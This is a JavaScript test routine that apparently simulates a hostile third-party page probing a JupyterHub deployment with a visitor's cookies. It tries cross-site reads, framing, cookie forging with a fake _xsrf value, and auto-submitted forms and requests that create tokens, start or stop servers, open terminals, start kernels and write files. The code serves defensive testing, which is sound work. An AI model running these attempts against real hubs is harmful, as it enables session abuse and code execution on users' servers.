// What a page of somebody else tries with the cookies of who opened it. Each answers with what it got, or "" for nothing.
(targets) => {
  const { hub, server, person, other, only } = targets;
  const within = (milliseconds, promise) => Promise.race([promise, new Promise((done) => setTimeout(done, milliseconds, ""))]);
  const read = async (url, options = {}) => {
    const answer = await fetch(url, { credentials: "include", ...options });
    return answer.type === "opaque" ? "" : `${url} ${answer.status} ${(await answer.text()).slice(0, 60)}`;
  };
  const send = (url, body, type) =>
    read(url, { method: "POST", mode: "no-cors", body, headers: { "Content-Type": type } });
  const framed = (url) =>
    new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = () => done(frame.contentDocument?.body?.innerText ? `${url} framed` : "");
      frame.src = url;
      document.body.append(frame);
    });
  const opened = async (url) => {
    const page = window.open(url);
    const until = Date.now() + 4000; // an origin of another's throws at once, and one's own has a title when it is there
    try {
      while (Date.now() < until) {
        if (page.document.title) return `${url} opened and read`;
        await new Promise((done) => setTimeout(done, 50));
      }
      return "";
    } finally {
      page?.close();
    }
  };
  const socket = (url) =>
    new Promise((done) => {
      const line = new WebSocket(url.replace(/^http/, "ws"));
      line.onopen = () => done(`${url} connected`);
      line.onerror = () => done("");
    });
  const picture = (url) =>
    new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = () => done("");
      image.src = url;
    });
  const form = (url, fields) => {
    const made = document.createElement("form");
    Object.assign(made, { method: "post", action: url, target: "_blank" });
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("input");
      Object.assign(field, { name, value, type: "hidden" });
      made.append(field);
    }
    document.body.append(made);
    made.submit();
    return new Promise((done) => setTimeout(done, 700, ""));
  };
  const cookie = () => {
    const name = location.hostname.split(".").slice(1).join(".");
    for (const path of ["/", "/hub/"]) document.cookie = `_xsrf=forged; domain=${name}; path=${path}; secure`;
    return /jupyterhub-(hub-login|session-id|user)/.test(document.cookie) ? document.cookie : "";
  };
  const choice = { profile: "cpu", project: "trn0007", minutes: "60" };
  const question = new URLSearchParams(choice).toString();
  const [typed, written] = ["application/x-www-form-urlencoded", "text/plain"];
  const api = `${hub}/hub/api`;
  const tries = {
    "reads the hub's API": () => read(`${api}/user`),
    "reads the person there": () => read(`${api}/users/${person}`),
    "reads their projects": () => read(`${api}/aif/v1/allocations`),
    "reads their home page": () => read(`${hub}/hub/home`),
    "reads it without asking whether it may": () => read(`${hub}/hub/home`, { mode: "no-cors" }),
    "frames their home page": () => framed(`${hub}/hub/home`),
    "opens their home page and reads it": () => opened(`${hub}/hub/home`),
    "sees or sets a cookie": cookie,
    "makes a token": () => send(`${api}/users/${person}/tokens`, "{}", written),
    "starts by REST": () => send(`${api}/users/${person}/servers/${other}`, JSON.stringify(choice), written),
    "starts by REST, as JSON": () =>
      read(`${api}/users/${person}/servers/${other}`, { method: "POST", body: "{}", headers: { "Content-Type": "application/json" } }),
    "starts by the form, unseen": () => send(`${hub}/hub/spawn/${person}/${other}`, question, typed),
    "starts by a picture": () => picture(`${hub}/hub/spawn/${person}/${other}?${question}`),
    "starts by the form": () => form(`${hub}/hub/spawn/${person}/${other}`, choice),
    "starts by the form with a forged token": () => form(`${hub}/hub/spawn/${person}/${other}`, { ...choice, _xsrf: "forged" }),
    "stops by REST": () => read(`${api}/users/${person}/server`, { method: "DELETE" }),
    "stops by the form, unseen": () => send(`${hub}/hub/aif/stop`, "server=", typed),
    "stops by a picture": () => picture(`${hub}/hub/aif/stop?server=`),
    "stops by the form": () => form(`${hub}/hub/aif/stop`, { server: "" }),
    "stops by the form with a forged token": () => form(`${hub}/hub/aif/stop`, { server: "", _xsrf: "forged" }),
    "shares the session": () => send(`${api}/share-codes/${person}/`, "{}", written),
    ...(server && {
      "reads their files": () => read(`${server}api/contents`),
      "reads their files unseen": () => read(`${server}api/contents`, { mode: "no-cors" }),
      "opens a terminal": () => send(`${server}api/terminals`, "{}", written),
      "starts a kernel": () => send(`${server}api/kernels`, "{}", written),
      "writes a file": () => read(`${server}api/contents/forged.txt`, { method: "PUT", body: "{}" }),
      "hears what happens there": () => socket(`${server}api/events/subscribe`),
      "frames their JupyterLab": () => framed(`${server}lab`),
    }),
  };
  return (async () => {
    const got = {};
    for (const [name, act] of Object.entries(tries)) {
      if (only && !only.includes(name)) continue;
      got[name] = await within(5000, Promise.resolve().then(act).catch(() => "")) ?? "";
    }
    return got;
  })();
}
